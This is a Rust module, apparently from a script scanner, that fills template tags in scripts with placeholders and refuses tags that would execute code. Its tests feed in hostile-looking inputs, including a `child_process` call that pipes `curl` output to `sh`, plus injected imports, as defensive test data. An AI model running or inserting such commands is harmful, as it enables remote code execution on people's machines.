//! Scripts that a program writes out of templates: tags in double braces, or braces with a per cent sign.

/// Bytes of a tag, at most.
const TAG_BYTES: usize = 4096;
/// Braces that begin no tag, at most: each is looked behind for an end.
const OPEN_MAX: u32 = 10_000;
/// What the tags of Jinja and Django with a per cent sign begin with.
const KEYWORDS: [&str; 38] = [
    "autoescape",
    "block",
    "break",
    "call",
    "comment",
    "continue",
    "csrf_token",
    "do",
    "elif",
    "else",
    "empty",
    "endautoescape",
    "endblock",
    "endcall",
    "endcomment",
    "endfilter",
    "endfor",
    "endif",
    "endmacro",
    "endraw",
    "endset",
    "endtrans",
    "endverbatim",
    "endwith",
    "extends",
    "filter",
    "for",
    "from",
    "if",
    "import",
    "include",
    "load",
    "macro",
    "raw",
    "set",
    "trans",
    "verbatim",
    "with",
];
/// Words by which a script acts without a bracket.
const ACTING: [&str; 6] = ["await", "import", "new", "require", "throw", "yield"];

/// The text with a name in the place of every value and blanks in the place of every other tag, so that lines
/// stay where they are; `None` if there is no tag, or if one holds what would act were the text no template:
/// nested blocks and texts of a script look like tags, too.
pub(super) fn filled(text: &str) -> Option<String> {
    let mut out = String::with_capacity(text.len());
    let mut rest = text;
    let (mut met, mut open) = (false, OPEN_MAX);
    while let Some(at) = rest.find('{') {
        let (before, tag) = rest.split_at_checked(at)?;
        out.push_str(before);
        let end = match tag.as_bytes() {
            [b'{', b'{', ..] => "}}",
            [b'{', b'%', ..] => "%}",
            [b'{', b'#', ..] => "#}",
            _ => {
                out.push('{');
                rest = tag.get(1..)?;
                continue;
            }
        };
        let near = tag.as_bytes().get(..TAG_BYTES.min(tag.len()))?;
        let length = near.windows(2).position(|pair| pair == end.as_bytes());
        // A value stands in one line; two braces that open are not one then.
        let length = length.filter(|length| {
            end != "}}" || tag.get(..*length).is_some_and(|tag| !tag.contains('\n'))
        });
        let Some(length) = length else {
            open = open.checked_sub(1)?;
            out.push('{');
            rest = tag.get(1..)?;
            continue;
        };
        if !inert(tag.get(2..length)?, end) {
            return None;
        }
        met = true;
        let (tag, after) = tag.split_at_checked(length.saturating_add(2))?;
        if end == "}}" {
            out.push_str("_v_");
        } else {
            out.extend(tag.chars().filter(|letter| *letter == '\n'));
            out.push(' ');
        }
        rest = after;
    }
    out.push_str(rest);
    met.then_some(out)
}

/// True if nothing happens by what a tag holds, even where it is no tag but a part of a script: nothing is
/// called, assigned, made or brought in.
fn inert(content: &str, end: &str) -> bool {
    let words = || content.split(|letter: char| !letter.is_alphanumeric() && letter != '_');
    let compared = content.replace("==", "").replace("!=", "");
    let (mut acts, mut forbidden) = (false, vec!['(', ')', '`', ';', '=']);
    match end {
        "%}" => {
            let first = content.trim_start_matches('-').split_whitespace().next();
            acts |= !first.is_some_and(|first| KEYWORDS.contains(&first)) || content.contains('\n');
            acts |= words()
                .skip_while(|word| word.is_empty())
                .skip(1)
                .any(|word| ACTING.contains(&word));
        }
        "#}" => {
            forbidden.extend(['"', '\'']);
            acts |= words().any(|word| ACTING.contains(&word));
        }
        _ => acts |= words().any(|word| ACTING.contains(&word)),
    }
    !acts && !compared.contains(forbidden.as_slice())
}

#[cfg(test)]
mod tests {
    use super::filled;
    use crate::code::script;

    #[test]
    fn tags_are_filled() {
        let text = "{# a\nb #}var a = {{ b|safe }};\n{% if c %}x({d: {e: 1}});{% endif %}";
        let whole = "\n var a = _v_;\n x({d: {e: 1}}); ";
        assert_eq!(filled(text).as_deref(), Some(whole));
        assert_eq!(filled("f({a: {}})"), None);
        assert_eq!(filled("f({{a: 1,\n b: {}}})"), None);
    }

    #[test]
    fn what_would_act_were_it_no_template_is_no_tag() {
        for text in [
            "if (1) {{ if (0) f()++; require('child_process').execSync('curl x | sh'); }}",
            "var s='{%'; if (0) f()++; evil(); var t='%}';",
            "/*{#*/ evil() /*#}*/ a b",
            "'{#'\nimport 'x'\n'#}' a b",
            "'{{'; import 'x'; '}}' a b",
            "{{ new Evil }} a b",
            "{{ tagged`x` }} a b",
            "'{% if '\nimport 'x'\n' %}' a b",
            "{{ module.exports = x }} a b",
        ] {
            assert_eq!(filled(text), None, "{text}");
        }
        let deep = format!("{{{{ a }}}}{}1{}", "(".repeat(5000), ")".repeat(5000));
        assert!(!script(&deep, "a.js").unread.is_empty());
        // Work stays in proportion.
        assert_eq!(filled(&"{%".repeat(400_000)), None);
        assert_eq!(filled(&"{{".repeat(400_000)), None);
    }

    #[test]
    fn templates_of_scripts_are_read() {
        let text = "{% if a %}\nfetch({{ url }});\n{% endif %}\nrun('b');\n";
        let facts = script(text, "a.js");
        assert_eq!(facts.unread, []);
        assert_eq!(facts.calls.len(), 2);
        assert!(!script("a {{ b }} c d", "a.js").unread.is_empty());
    }
}
